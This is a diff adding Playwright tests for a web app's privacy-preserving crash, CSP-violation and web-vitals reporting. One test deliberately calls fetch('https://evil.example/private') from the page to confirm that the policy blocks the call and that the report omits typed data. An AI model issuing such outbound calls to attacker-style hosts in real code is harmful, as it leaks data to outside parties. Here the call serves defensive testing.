@@ -1,0 +1,59 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '../fixtures/test.ts';
+
+const REPORT_URL = '/mock/v1/reports';
+
+/** Opens the sign-in page as a deployment with a collector. */
+async function openReporting(page: Page): Promise<void> {
+  await page.route('**/login*', async (route) => {
+    const response = await route.fetch();
+    const html = (await response.text()).replace(
+      'id="app-config">{',
+      `id="app-config">{"reportUrl":"${REPORT_URL}",`,
+    );
+    await route.fulfill({ response, body: html });
+  });
+  const started = page.waitForResponse('**/assets/start-reports-*.js');
+  await page.goto('/login?token=secret');
+  await started;
+}
+
+async function reportsAt(page: Page): Promise<string> {
+  return (await page.request.get(REPORT_URL)).text();
+}
+
+test('crashes, forbidden calls and measurements are reported without what was typed', async ({
+  page,
+  problems,
+}) => {
+  problems.allow(/private|policy|evil\.example|ERR_BLOCKED/i);
+  await openReporting(page);
+  await page.getByLabel('Email', { exact: true }).fill('private@amana.test');
+
+  await page.evaluate(() => {
+    setTimeout(() => {
+      throw new TypeError('private text');
+    });
+    return fetch('https://evil.example/private').catch(() => null);
+  });
+  await page.goto('about:blank');
+
+  await expect.poll(() => reportsAt(page)).toContain('"connect-src:evil.example"');
+  const reports = await reportsAt(page);
+  for (const code of ['TypeError', 'LCP', 'TTFB']) expect(reports).toContain(`"${code}`);
+  expect(reports).toContain('"/login"');
+  expect(reports).not.toMatch(/private|secret/);
+});
+
+test('nothing is reported where no collector is configured', async ({ page }) => {
+  const beacons: string[] = [];
+  page.on('request', (request) => {
+    if (request.resourceType() === 'ping') beacons.push(request.url());
+  });
+
+  await page.goto('/login');
+  await expect(page.getByRole('button', { name: 'Log In', exact: true })).toBeVisible();
+  await page.goto('about:blank');
+
+  expect(beacons).toEqual([]);
+});
